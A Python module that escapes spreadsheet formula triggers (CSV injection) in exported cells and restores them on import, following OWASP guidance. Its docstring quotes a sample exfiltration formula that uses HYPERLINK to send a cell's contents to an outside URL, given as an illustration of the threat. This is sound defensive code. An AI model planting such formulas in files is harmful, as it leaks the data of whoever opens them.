"""Cells that a spreadsheet would run as formulas (CSV injection), neutralised on the way out
and restored on the way back in.

Why: a registry value such as ``=HYPERLINK("http://…?leak="&A1,"詳細")`` (a name, a note, a
title in a file someone sent us) becomes a live formula the moment a colleague opens our CSV
export or report workbook in Excel or LibreOffice. OWASP's guidance for CSV files: a value that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading
apostrophe, which spreadsheets show as text. In XLSX files we write, every string cell is typed
as a string, never a formula (openpyxl would otherwise store ``=…`` as a formula).

The escape is reversible, so importing our own export gives back the original value: a value
whose first character after any leading apostrophes is a trigger gets one more apostrophe, and
:func:`unescape_cell` removes exactly one. A value that does not start with a trigger, after its
apostrophes, is never touched either way.
"""

from __future__ import annotations

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _needs(text: str) -> bool:
    return text.lstrip("'")[:1] in TRIGGERS and text.lstrip("'") != ""


def escape_cell(value: object) -> object:
    """A cell value safe to write to CSV: strings that would start a formula get a leading ``'``."""
    if isinstance(value, str) and _needs(value):
        return "'" + value
    return value


def unescape_cell(value: object) -> object:
    """The value :func:`escape_cell` was given (for a value read from a CSV file)."""
    if isinstance(value, str) and value.startswith("'") and _needs(value[1:]):
        return value[1:]
    return value


def text_cells(worksheet: object) -> int:
    """Type every formula-looking string cell of an openpyxl worksheet as a string; how many.

    For sheets written by pandas/openpyxl in normal (not write-only) mode."""
    n = 0
    for row in worksheet.iter_rows():  # type: ignore[attr-defined]
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
                n += 1
    return n
